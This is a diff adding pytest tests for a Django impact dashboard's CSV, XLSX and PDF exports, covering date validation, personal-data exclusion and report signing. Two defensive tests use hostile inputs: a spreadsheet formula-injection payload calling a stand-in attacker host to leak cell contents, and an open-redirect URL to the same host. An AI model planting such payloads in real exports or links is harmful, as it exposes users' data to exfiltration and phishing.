@@ -3,6 +3,7 @@ import io
 import re
 
 import pytest
+from django.utils import translation
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
@@ -48,7 +49,8 @@ def test_dashboard_shows_the_independently_counted_figures(coordinator_client, d
         assert same(page_figure(html, name), expected[name]), (name, expected[name])
     assert html.count("<svg") >= 4  # charts inline, each followed by its table
     assert html.count("<caption>") >= 5 and 'scope="row"' in html
-    for person in User.objects.all():
+    # No person's name or contact, except the coordinator's own name offered as signatory.
+    for person in User.objects.exclude(pk=coordinator_client.person.pk):
         assert person.display_name not in html and person.email not in html
 
 
@@ -93,9 +95,12 @@ def test_csv_and_xlsx_hold_every_aggregate_and_no_person(coordinator_client, dat
     expected = expected_figures(city, year_period(YEAR))
     response = coordinator_client.get("/impact/export.csv", QUERY)
     assert response.status_code == 200
-    text = response.content.decode()
+    # Belgian Excel: a byte order mark for the accents, ";" between cells.
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    text = response.content.decode("utf-8-sig")
     _no_personal_data(text)
-    rows = list(csv.reader(io.StringIO(text)))
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    assert all(len(row) >= 2 for row in rows)
     values = [row[2] for row in rows[3:]]
     assert str(expected["sessions_held"]) in values
     assert str(expected["people_reached"]) in values
@@ -144,3 +149,113 @@ def test_navigation_offers_impact_to_coordinators():
 
     assert "impact:dashboard" in [i["url_name"] for i in items_for({"coordinator"})]
     assert "impact:dashboard" not in [i["url_name"] for i in items_for({"participant"})]
+
+
+def test_export_cells_that_look_like_formulas_stay_text(coordinator_client, dataset, city):
+    """A neighbourhood (free text) or a city name typed as a formula is never run."""
+    from interra.venues.models import Venue
+
+    trap = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    Venue.objects.filter(city=city).update(neighbourhood=trap)
+    city.name = "@SUM(1+1)"
+    city.save(update_fields=["name"])
+    text = coordinator_client.get("/impact/export.csv", QUERY).content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert "'@SUM(1+1)" in cells
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
+    assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in cells)
+
+    response = coordinator_client.get("/impact/export.xlsx", QUERY)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not any(cell.data_type == "f" for cell in values)
+    texts = [cell.value for cell in values if isinstance(cell.value, str)]
+    assert any(text.startswith("'=HYPERLINK(") for text in texts)
+    assert not any(text[:1] in ("=", "+", "@", "-") for text in texts)
+
+
+@pytest.mark.parametrize("start", ["0001-01-01", "9999-12-31", "10000-01-01", "2025-13-01",
+                                   "2025-02-30", "1-1", "9999-12", "nope"])
+@pytest.mark.parametrize("url", ["/impact/", "/impact/export.csv", "/impact/export.xlsx",
+                                 "/impact/report.pdf"])
+def test_extreme_or_malformed_dates_answer_400_with_a_message(coordinator_client, city, url,
+                                                              start):
+    with translation.override("en"):
+        response = coordinator_client.get(url, {"start": start}, HTTP_ACCEPT_LANGUAGE="en")
+    assert response.status_code == 400
+    text = response.content.decode()
+    assert "Choose a month between 2000 and 2100" in text or "Enter a month as" in text
+
+
+def test_end_of_the_year_9999_is_refused(coordinator_client, city):
+    response = coordinator_client.get("/impact/export.csv",
+                                      {"start": "2025-01-01", "end": "9999-12-31"})
+    assert response.status_code == 400
+
+
+def test_periods_are_whole_months_whatever_is_typed(coordinator_client, dataset):
+    """Two periods one day apart are the same whole months: identical exports."""
+    first = coordinator_client.get("/impact/export.csv", {
+        "city": "liege", "start": f"{YEAR}-02-01", "end": f"{YEAR}-04-01"})
+    second = coordinator_client.get("/impact/export.csv", {
+        "city": "liege", "start": f"{YEAR}-02-02", "end": f"{YEAR}-04-01"})
+    assert first.status_code == second.status_code == 200
+    assert first.content == second.content
+    months = coordinator_client.get("/impact/export.csv", {
+        "city": "liege", "start": f"{YEAR}-02", "end": f"{YEAR}-03"})
+    assert months.content == first.content
+    assert f"{YEAR}-02-01".encode() in first.content
+    assert f"{YEAR}-03-31".encode() in first.content
+
+
+def _pdf_text(response) -> str:
+    reader = PdfReader(io.BytesIO(response.content))
+    return " ".join(page.extract_text() for page in reader.pages)
+
+
+def test_report_texts_are_written_on_the_impact_page_and_signed_in_the_pdf(
+        coordinator_client, dataset, city, settings):
+    settings.ORGANISATION_ADDRESS = "Rue de l'Exemple 1, 4000 Liège"
+    page = coordinator_client.get("/impact/", QUERY).content.decode()
+    assert f'action="/impact/highlights/liege/{YEAR}/"' in page
+    assert 'id="id_liege_outlook"' in page
+
+    # Nothing written yet: no empty "Perspectives" section in the report.
+    empty = _pdf_text(coordinator_client.get("/impact/report.pdf", QUERY))
+    assert "Perspectives" not in empty
+
+    back = f"/impact/?start={YEAR}-01&end={YEAR}-12&city=liege"
+    response = coordinator_client.post(f"/impact/highlights/liege/{YEAR}/", {
+        "highlights": "Quarante ateliers.", "outlook": "Ouvrir une antenne à Seraing.",
+        "signatory_name": "Julie Coordinatrice", "signatory_role": "Coordinatrice",
+        "signed_at_place": "Liège", "next": back,
+    })
+    assert response.status_code == 302 and response["Location"].startswith(back)
+    saved = coordinator_client.get(response["Location"]).content.decode()
+    assert "Ouvrir une antenne à Seraing." in saved
+
+    text = _pdf_text(coordinator_client.get("/impact/report.pdf", QUERY))
+    assert "Perspectives" in text and "Ouvrir une antenne à Seraing." in text
+    assert "Julie Coordinatrice" in text and "Coordinatrice" in text
+    assert "Interra ASBL" in text and "4000 Liège" in text
+    assert re.search(r"Liège, \w+ \d{1,2} \w+ \d{4}", text)  # place and date, in French
+    # What "< 5" means is said in the report itself (English until the catalogue has it).
+    assert "0 et 4" in text or "0 and 4" in text
+
+
+def test_redirect_after_saving_stays_on_the_impact_pages(coordinator_client, city):
+    response = coordinator_client.post(f"/impact/highlights/liege/{YEAR}/", {
+        "highlights": "x", "next": "https://evil.example/impact/?a=1"})
+    assert response.status_code == 302
+    assert response["Location"].startswith(f"/impact/highlights/liege/{YEAR}/")
+
+
+def test_charts_are_drawn_for_a_desktop_column_and_for_a_phone(coordinator_client, dataset):
+    html = coordinator_client.get("/impact/", QUERY).content.decode()
+    assert html.count('class="chart-wide"') == 4 and html.count('class="chart-narrow"') == 4
+    for variant, least in (("wide", 16), ("narrow", 13)):
+        for svg in re.findall(rf'<svg [^>]*class="chart-{variant}".*?</svg>', html, re.S):
+            sizes = [float(size) for size in re.findall(r"font-size:\s*([\d.]+)px", svg)]
+            assert sizes and min(sizes) >= least, (variant, min(sizes))
+    # Months without a session are in the chart and the table, at zero.
+    assert html.count(f"<tr><th scope=\"row\">{YEAR}-") == 12
